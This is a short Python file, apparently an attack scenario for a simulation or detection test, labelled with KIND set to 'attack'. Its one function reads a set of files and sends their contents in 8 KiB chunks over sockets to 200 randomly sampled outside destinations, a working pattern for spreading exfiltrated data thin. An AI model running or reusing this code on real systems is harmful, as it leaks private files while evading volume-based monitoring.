# SPDX-License-Identifier: GPL-3.0-or-later
"""8 KiB at a time, each to another destination, 200 of them."""
import random
import socket

KIND = "attack"


def product(world):
    rng = random.Random(world["seed"])
    content = b"".join(open(path, "rb").read() for path in world["files"])
    sinks = rng.sample(world["sinks"], 200)
    for i, at in enumerate(range(0, len(content), 8192)):
        with socket.create_connection(sinks[i % len(sinks)]) as sock:
            sock.sendall(content[at:at + 8192])
